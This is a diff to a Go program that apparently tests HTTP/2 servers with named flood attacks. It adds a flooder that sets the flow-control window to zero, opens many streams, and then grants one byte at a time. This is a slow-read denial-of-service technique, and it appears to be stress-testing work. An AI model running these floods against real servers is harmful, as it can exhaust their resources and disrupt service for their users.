@@ -21,7 +21,7 @@ import (
 
 var frameFloods = attack{
 	name:  "frame-floods",
-	title: "clients of HTTP/2 send frames that ask for nothing, reset what they ask for, do not end a header, open no window, and read slowly",
+	title: "clients of HTTP/2 send frames that ask for nothing, reset what they ask for, do not end a header, open no window, or one of a byte, and read slowly",
 	run:   runFrameFloods,
 }
 
@@ -76,6 +76,15 @@ var flooders = []flooder{
 			return errEnough
 		}
 		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n - 1, BlockFragment: fields, EndHeaders: true, EndStream: true})
+	}},
+	{"streams that may send a byte at a time", true, func(f *http2.Framer, fields []byte, n uint32) error {
+		switch {
+		case n == 0:
+			return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
+		case n <= 100:
+			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n - 1, BlockFragment: fields, EndHeaders: true, EndStream: true})
+		}
+		return f.WriteWindowUpdate(2*(n%100)+1, 1)
 	}},
 }
 
